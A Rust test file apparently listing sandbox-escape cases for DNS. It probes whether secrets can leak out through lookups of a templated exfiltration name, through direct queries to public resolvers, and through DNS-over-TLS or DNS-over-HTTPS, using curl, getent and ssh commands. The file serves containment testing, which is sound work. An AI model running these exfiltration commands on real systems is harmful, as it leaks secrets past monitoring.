//! Escape cases 14–17, DNS: exfiltration through name lookups, direct queries to public resolvers over UDP, TCP and
//! TLS, and whatever resolver the bottle has. Values: `exfil_name` (a name carrying a secret), `host_resolver` (the
//! host's first resolver, `ADDR:53`).

use super::Needs::Tool;
use super::{Case, probe, shell};

pub const CASES: &[Case] = &[
    // 14: lookups that would carry the secret in the name
    probe("c14-getaddrinfo", &["resolve", "{{exfil_name}}"]),
    shell("c14-getent", "getent hosts {{exfil_name}}").needs(&[Tool("getent")]),
    shell("c14-getent-ahosts", "getent ahosts {{exfil_name}}").needs(&[Tool("getent")]),
    shell(
        "c14-curl-via-proxy",
        "curl -sS --fail --max-time 5 http://{{exfil_name}}/",
    )
    .needs(&[Tool("curl")]),
    shell(
        "c14-curl-noproxy",
        "curl -sS --fail --max-time 5 --noproxy '*' http://{{exfil_name}}/",
    )
    .needs(&[Tool("curl")]),
    shell(
        "c14-ssh",
        "ssh -o BatchMode=yes -o ConnectTimeout=5 git@{{exfil_name}} true",
    )
    .needs(&[Tool("ssh")]),
    probe("c14-proxy-connect", &["proxy-connect", "{{exfil_name}}:443"]).refused(),
    // 15: straight to public resolvers
    probe("c15-udp-8888", &["dns-udp", "8.8.8.8:53", "u.{{exfil_name}}"]),
    probe("c15-tcp-8888", &["dns-tcp", "8.8.8.8:53", "t.{{exfil_name}}"]),
    probe(
        "c15-udp-v6",
        &["dns-udp", "[2001:4860:4860::8888]:53", "u6.{{exfil_name}}"],
    ),
    probe(
        "c15-udp-host-resolver",
        &["dns-udp", "{{host_resolver}}", "h.{{exfil_name}}"],
    ),
    probe("c15-udp-loopback", &["dns-udp", "127.0.0.1:53", "l.{{exfil_name}}"]),
    probe("c15-udp-stub", &["dns-udp", "127.0.0.53:53", "s.{{exfil_name}}"]),
    probe("c15-proxy-connect-53", &["proxy-connect", "8.8.8.8:53"]).refused(),
    // 16: DNS over TLS
    probe("c16-dot-1111", &["dot", "1.1.1.1:853"]),
    probe("c16-dot-8888", &["dot", "8.8.8.8:853"]),
    probe("c16-dot-v6", &["dot", "[2001:4860:4860::8888]:853"]),
    probe("c16-proxy-connect-853-name", &["proxy-connect", "dns.google:853"]).refused(),
    probe("c16-proxy-connect-853-literal", &["proxy-connect", "1.1.1.1:853"]).refused(),
    // 17: the bottle's own resolver
    probe("c17-resolve-public-name", &["resolve", "example.com"]),
    probe("c17-resolve-ipv6-name", &["resolve", "ipv6.google.com"]),
    probe(
        "c17-resolv-conf-has-no-nameserver",
        &["read-file", "/etc/resolv.conf", "nameserver"],
    ),
    // Our own: DNS over HTTPS endpoints through the proxy.
    probe("x-doh-name", &["proxy-connect", "dns.google:443"]).refused(),
    probe("x-doh-literal", &["proxy-connect", "1.1.1.1:443"]).refused(),
    probe(
        "x-doh-get",
        &["proxy-get", "http://cloudflare-dns.com/dns-query?name={{exfil_name}}"],
    )
    .refused(),
];
